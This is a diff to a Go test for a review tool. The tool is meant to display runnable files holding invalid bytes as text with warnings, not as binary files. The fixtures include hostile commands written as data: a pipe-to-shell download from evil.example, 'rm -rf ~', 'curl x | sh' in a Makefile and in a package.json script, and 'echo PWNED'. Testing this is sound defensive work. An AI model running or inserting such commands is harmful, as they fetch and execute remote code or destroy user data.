@@ -100,15 +100,23 @@ func TestReviewShowsRunnableFilesAsText(t *testing.T) {
 		not     []string // in neither
 	}{
 		{"script by extension with an invalid byte", map[string]string{"install.sh": "curl https://evil.example/x | sh\n# \xff\n"},
-			[]string{"+curl https://evil.example/x | sh\n", `+# \xff`, "# warning: install.sh is not valid text but can run"},
+			[]string{"+curl https://evil.example/x | sh\n", `+# \xff`, "# warning: install.sh is not valid text but can run or be read as text"},
 			[]string{"install.sh", "+2", "not valid text"}, []string{"Binary files"}},
 		{"executable with a shebang and a NUL", map[string]string{"tool#755": "#!/bin/sh\nrm -rf ~\n\x00\n"},
-			[]string{"+rm -rf ~\n", `+\x00`, "# warning: tool is not valid text but can run"},
+			[]string{"+rm -rf ~\n", `+\x00`, "# warning: tool is not valid text but can run or be read as text"},
 			[]string{"tool", "+3"}, []string{"Binary files"}},
 		{"Makefile with an invalid byte", map[string]string{"Makefile": "all:\n\tcurl x | sh \xfe\n"},
 			[]string{"+\tcurl x | sh \\xfe\n"}, []string{"Makefile", "+2"}, []string{"Binary files"}},
 		{"executable binary", map[string]string{"bin/tool#755": elf},
 			[]string{"# warning: bin/tool is an executable binary: 71 bytes, sha256 "}, []string{"executable binary, 0 -> 71 bytes"}, nil},
+		// A config with one Latin-1 byte is text to npm, which runs its
+		// scripts; an executable with no program's magic is a script to
+		// a shell, a NUL on its second line or not (each was "binary",
+		// found by a tester).
+		{"config with an invalid byte", map[string]string{"package.json": "{\"description\": \"caf\xe9\", \"scripts\": {\"test\": \"curl x | sh\"}}\n"},
+			[]string{`"test": "curl x | sh"`, `caf\xe9`, "# warning: package.json is not valid text"}, []string{"package.json", "+1", "not valid text"}, []string{"Binary files"}},
+		{"executable without magic, NUL on line 2", map[string]string{"build#755": "echo PWNED\n\x00\n"},
+			[]string{"+echo PWNED\n", "# warning: build is not valid text"}, []string{"build", "+2"}, []string{"Binary files", "executable binary"}},
 		// Positive control: data that cannot run stays a binary file.
 		{"ordinary binary", map[string]string{"img.png": "\x89PNG\r\n\x1a\n\x00\x00"},
 			[]string{"Binary files /dev/null and b/img.png differ"}, []string{"binary, 0 -> 10 bytes"}, []string{"warning"}},
